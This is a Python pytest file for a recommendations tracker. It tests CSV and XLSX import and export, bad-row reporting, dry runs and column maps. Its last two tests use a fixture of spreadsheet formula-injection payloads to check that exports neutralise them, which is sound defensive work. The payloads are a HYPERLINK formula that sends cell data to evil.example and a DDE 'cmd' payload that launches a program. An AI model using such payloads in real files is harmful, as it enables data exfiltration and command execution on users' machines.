"""CSV/XLSX import and export of recommendations: bad rows with line numbers, dry run, --map, XLSX, round trip."""
from __future__ import annotations

import openpyxl
import pytest
from sqlalchemy import func, select
from track_helpers import run, run_json, write_csv

from ctrack.store.db import session_scope
from ctrack.store.track_models import Action, DbAuditEntry, DbRecommendation, DbTransfer, Entity
from ctrack.track import io
from ctrack.track.io import COLUMNS, TransferError


def _count(engine, model) -> int:
    with session_scope(engine) as s:
        return s.scalar(select(func.count()).select_from(model))


GOOD_TJK = ["Tajikistan", "Establish a financial intelligence unit", "cft", "1373", "II", "high", "yes",
            "FIU training", "National Bank", "UNODC; OSCE", "2020-06-30", "in progress", "CTED visit 2017"]
GOOD_KAZ = ["KAZ", "Adopt a strategy against violent extremism", "CVE", "1624", "I", "", "no", "", "", "",
            "", "", ""]


def test_a_bad_row_is_rejected_with_its_line_number_while_the_good_rows_load(engine, db_url, tmp_path):
    rows = [
        GOOD_TJK,
        ["Atlantis", "Build a sea wall", "", "", "", "", "", "", "", "", "", "", ""],               # line 3
        ["KGZ", "Text over\ntwo lines", "", "", "", "", "", "", "", "", "", "", ""],                # lines 4-5, good
        ["KGZ", "Late", "cooking", "", "", "", "maybe", "", "", "", "31/31/2020", "", ""],          # line 6
        ["", "", "", "", "", "", "", "", "", "", "", "", ""],                                       # blank line 7
        GOOD_KAZ,                                                                                   # line 8
        ["KAZ", "", "", "", "", "", "", "", "", "", "", "", ""],                                     # line 9
    ]
    path = write_csv(tmp_path / "recs.csv", list(COLUMNS), rows)
    with session_scope(engine) as s:
        report = io.import_file(s, path, user="ana")
    assert [e.line for e in report.errors] == [3, 6, 9]
    reasons = {e.line: e.reason for e in report.errors}
    assert "unknown member state 'Atlantis'" in reasons[3]
    assert "theme" in reasons[6] and "ta_needed" in reasons[6] and "due_date" in reasons[6]
    assert "text: a value is required" in reasons[9]
    assert all(e.code == "E020" and str(path) in str(e) for e in report.errors)
    assert len(report.loaded) == 3 and report.rows == 6
    with session_scope(engine) as s:
        recs = {r.text: r for r in s.scalars(select(DbRecommendation))}
        assert set(recs) == {"Establish a financial intelligence unit", "Text over\ntwo lines",
                             "Adopt a strategy against violent extremism"}
        tjk = recs["Establish a financial intelligence unit"]
        assert (tjk.state, tjk.status.value, tjk.ta_needed, tjk.priority.value) == ("TJK", "in_progress", True, "high")
        assert [p.name for p in tjk.parties] == ["National Bank", "UNODC", "OSCE"]
        transfer = s.scalar(select(DbTransfer))
        assert (transfer.direction, transfer.loaded, sorted(transfer.record_ids)) == (
            Action.IMPORT, 3, sorted(report.loaded))
        assert [line for line, _ in transfer.errors] == [3, 6, 9]
        entry = s.scalar(select(DbAuditEntry).where(DbAuditEntry.action == Action.IMPORT))
        assert sorted(entry.after["records"]) == sorted(report.loaded) and entry.user == "ana"
    # the CLI reports the bad rows on stderr and exits non-zero; the good rows were already stored
    out = run("recs", "import", str(path), db=db_url, ok=False)
    assert out.exit_code == 1
    assert "line 3" in out.stderr and "line 6" in out.stderr and "line 9" in out.stderr
    assert "3 already stored" in out.stdout
    assert _count(engine, DbRecommendation) == 3


def test_a_dry_run_loads_nothing(engine, db_url, tmp_path):
    path = write_csv(tmp_path / "recs.csv", list(COLUMNS), [GOOD_TJK, ["Narnia", "x"] + [""] * 11, GOOD_KAZ])
    out = run("recs", "import", str(path), "--dry-run", db=db_url, ok=False)
    assert out.exit_code == 1 and "line 3" in out.stderr and "would load 2" in out.stdout
    assert _count(engine, DbRecommendation) == 0
    assert _count(engine, DbAuditEntry) == 0 and _count(engine, DbTransfer) == 0
    clean = write_csv(tmp_path / "clean.csv", list(COLUMNS), [GOOD_TJK])
    assert run("recs", "import", str(clean), "--dry-run", db=db_url).exit_code == 0
    assert _count(engine, DbRecommendation) == 0


def test_xlsx_import_with_a_column_map(engine, db_url, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Country", "Recommendation", "Thematic area", "Deadline", "Needs TA", "Notes"])
    ws.append(["Iraq", "Adopt a comprehensive counter-terrorism law", "legislation", "2021-12-31", True, "x"])
    ws.append(["Republic of Iraq", "Set up a victims' support office", "victims;gender", None, "no", ""])
    ws.append(["IRQ", "Bad date", "", "next year", "", ""])
    import datetime as dt

    ws["D3"] = dt.datetime(2022, 6, 30)
    path = tmp_path / "recs.xlsx"
    wb.save(path)
    out = run("recs", "import", str(path), "--map", "Country=state", "--map", "recommendation=text",
              "--map", "Thematic area=themes", "--map", "Deadline=due_date", "--map", "Needs TA=ta_needed",
              db=db_url, ok=False)
    assert out.exit_code == 1 and "line 4" in out.stderr and "next year" in out.stderr
    assert "ignored columns: Notes" in out.stderr
    listed = run_json("recs", "list", "--state", "IRQ", db=db_url)
    assert [(r["text"][:9], r["due_date"], r["ta_needed"], r["themes"]) for r in listed] == [
        ("Adopt a c", "2021-12-31", True, ["legislation"]),
        ("Set up a ", "2022-06-30", False, ["victims", "gender"])]
    with pytest.raises(TransferError, match="unknown field 'colour'"):
        io.parse_map(["Country=colour"])
    with session_scope(engine) as s:
        with pytest.raises(TransferError, match="no column for state"):
            io.import_file(s, path, user="ana")  # without the map there is no state column


def test_export_writes_the_import_columns_and_round_trips(engine, db_url, tmp_path):
    src = write_csv(tmp_path / "in.csv", list(COLUMNS), [GOOD_TJK, GOOD_KAZ])
    run("recs", "import", str(src), db=db_url)
    for name in ("out.csv", "out.xlsx"):
        run("recs", "export", str(tmp_path / name), db=db_url)
    rows = list(io.read_rows(tmp_path / "out.csv"))
    assert rows[0][1] == list(COLUMNS)
    assert rows[1][1] == ["KAZ", "Adopt a strategy against violent extremism", "cve_incitement", "1624", "I", "",
                          "no", "", "", "", "", "not_started", ""]
    assert rows[2][1][:7] == ["TJK", "Establish a financial intelligence unit", "cft", "1373", "II", "high", "yes"]
    sheet = list(io.read_rows(tmp_path / "out.xlsx"))
    assert [list(map(lambda c: c or "", r)) for _, r in sheet] == [r for _, r in rows]
    # importing the export changes nothing: the same recommendations are already stored
    with session_scope(engine) as s:
        report = io.import_file(s, tmp_path / "out.xlsx", user="ana")
        assert report.loaded == [] and len(report.skipped) == 2 and report.ok
        exports = s.scalars(select(DbTransfer).where(DbTransfer.direction == Action.EXPORT)).all()
        assert len(exports) == 2 and all(len(t.record_ids) == 2 for t in exports)
        assert {e.entity_type for e in s.scalars(select(DbAuditEntry).where(DbAuditEntry.action == Action.EXPORT))} == {
            Entity.TRANSFER}


@pytest.mark.parametrize("name,content,message", [
    ("missing.csv", None, "no such file"),
    ("recs.txt", b"state,text\n", "unsupported file type"),
    ("broken.xlsx", b"not a zip", "unreadable XLSX"),
    ("latin1.csv", "state,text\nTJK,Caf\xe9\n".encode("latin-1"), "not UTF-8"),
    ("empty.csv", b"", "empty file"),
])
def test_a_file_that_cannot_be_read_is_named_with_the_problem(engine, tmp_path, name, content, message):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with session_scope(engine) as s:
        with pytest.raises(TransferError, match=message) as info:
            io.import_file(s, path, user="ana")
    assert str(path) in str(info.value) and info.value.code == "E021"


HOSTILE = ["TJK", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "cft", "1373", "II", "", "yes",
           "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,2); -2+3", "", "", "\tCTED visit"]


def test_exports_neutralise_formulas_and_import_back_unchanged(engine, db_url, tmp_path):
    """Finding 5 of issue 13: ``=HYPERLINK(…)``, ``=cmd|…`` and ``+1+1`` went out unchanged, and as live
    formulas in XLSX. Every cell starting with = + - @ tab or CR now starts with a quote and is text."""
    src = write_csv(tmp_path / "in.csv", list(COLUMNS), [HOSTILE])
    run("recs", "import", str(src), db=db_url)
    for name in ("out.csv", "out.xlsx"):
        run("recs", "export", str(tmp_path / name), db=db_url)
    _, exported = list(io.read_rows(tmp_path / "out.csv"))[1]
    cells = dict(zip(COLUMNS, exported))
    assert cells["text"] == "'" + HOSTILE[1]
    assert cells["ta_description"] == "'=cmd|' /C calc'!A0"
    assert cells["lead_institutions"] == "'+1+1"
    assert cells["partners"].startswith("'@")
    for value in exported:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    texts = [c for row in ws.iter_rows(min_row=2) for c in row if c.value]
    assert texts and all(c.data_type == "s" for c in texts)  # no cell is a formula ("f")
    assert ws.cell(row=2, column=COLUMNS.index("text") + 1).value == "'" + HOSTILE[1]
    with session_scope(engine) as s:
        stored = s.scalars(select(DbRecommendation)).one()
        assert stored.text == HOSTILE[1]  # the knowledge base keeps the text as given
        for name in ("out.csv", "out.xlsx"):
            report = io.import_file(s, tmp_path / name, user="ana", dry_run=True)
            assert report.ok and len(report.skipped) == 1 and report.would_load == 0  # the same record


def test_neutralise_cell_follows_the_owasp_rule():
    from ctrack.safety import neutralise_cell, restore_cell

    for bad in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert neutralise_cell(bad) == "'" + bad and restore_cell(neutralise_cell(bad)) == bad
    for fine in ("plain", "", "'quoted", "1-2", 3, -4.5, None):
        assert neutralise_cell(fine) == fine and restore_cell(fine) == fine
